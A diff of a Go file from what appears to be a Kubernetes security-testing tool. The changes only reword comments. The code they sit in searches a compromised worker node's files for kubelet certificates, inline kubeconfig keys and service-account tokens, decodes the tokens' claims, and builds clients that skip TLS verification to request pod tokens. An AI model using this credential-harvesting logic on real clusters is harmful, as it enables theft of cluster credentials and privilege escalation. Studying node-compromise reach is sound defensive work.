@@ -16,20 +16,21 @@ import (
 	"time"
 )
 
-// identity is somebody whom root on a worker can be.
+// identity is an identity that root on a worker can have.
 type identity struct {
 	name   string
 	token  string
 	client *http.Client
 	cert   *tls.Certificate
-	// node says that it is a kubelet's: the group of all nodes.
+	// node is set for a kubelet's identity: the group of all nodes.
 	node bool
 }
 
 // within bounds one request.
 const within = 5 * time.Second
 
-// newIdentity takes any certificate of a server: it has nothing to lose.
+// newIdentity returns an identity whose client accepts any certificate of a
+// server, because it has nothing to lose.
 func newIdentity(name, token string, cert *tls.Certificate) identity {
 	config := &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}
 	if cert != nil {
@@ -44,11 +45,11 @@ var (
 	inlined   = regexp.MustCompile(`(client-certificate|client-key)-data: ([A-Za-z0-9+/=]+)`)
 )
 
-// mostOfFile bounds what is read of a file, in bytes.
+// mostOfFile is the size of the largest file that is read, in bytes.
 const mostOfFile = 4 << 20
 
-// search looks through the files of the host, and asks with kubelet's certificate
-// for the tokens of its pods.
+// search searches the files of the host, and requests the tokens of its pods
+// with kubelet's certificate.
 func (a *attacker) search(ctx context.Context) []identity {
 	found := map[string]identity{}
 	for _, root := range a.Roots {
@@ -81,13 +82,15 @@ func (a *attacker) search(ctx context.Context) []identity {
 	return out
 }
 
-// readable also follows the links by which kubelet's certificate is reached.
+// readable reports whether a path leads to a regular file that is small enough.
+// It follows links, because kubelet's certificate is behind one.
 func readable(path string) bool {
 	info, err := os.Stat(path)
 	return err == nil && info.Mode().IsRegular() && info.Size() <= mostOfFile
 }
 
-// identitiesIn are those of a file, by what tells them apart.
+// identitiesIn returns the identities in a file, by a key that distinguishes
+// them.
 func identitiesIn(path string, data []byte) map[string]identity {
 	out := map[string]identity{}
 	if pair, err := tls.X509KeyPair(data, data); err == nil {
@@ -113,7 +116,7 @@ func identitiesIn(path string, data []byte) map[string]identity {
 	return out
 }
 
-// pairIn is the certificate in a kubeconfig.
+// pairIn returns the certificate in a kubeconfig.
 func pairIn(data []byte) (*tls.Certificate, bool) {
 	var text []byte
 	for _, m := range inlined.FindAllSubmatch(data, -1) {
@@ -130,8 +133,8 @@ func pairIn(data []byte) (*tls.Certificate, bool) {
 	return &pair, err == nil
 }
 
-// claimed is what a token says of itself: a name, and what tells it from others
-// of other accounts.
+// claimed returns a name for a token from its own claims, and a key that
+// distinguishes it from the tokens of other accounts.
 func claimed(path, token string) (name, key string) {
 	payload, err := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[1])
 	var claims struct {
@@ -142,7 +145,7 @@ func claimed(path, token string) (name, key string) {
 	if err != nil || json.Unmarshal(payload, &claims) != nil {
 		return "token in " + path, token
 	}
-	audience, _ := json.Marshal(claims.Audience) // it was read from JSON
+	audience, _ := json.Marshal(claims.Audience) // it was decoded from JSON
 	name = strings.TrimSpace("token of " + claims.Subject + " " + claims.Role + " for " + string(audience))
 	return name, name
 }
